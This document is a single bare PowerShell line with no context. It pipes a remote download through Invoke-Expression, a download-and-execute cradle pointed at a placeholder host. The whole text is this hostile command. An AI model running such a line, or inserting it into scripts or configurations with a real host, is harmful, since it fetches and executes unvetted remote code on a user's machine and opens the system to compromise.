IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/x')
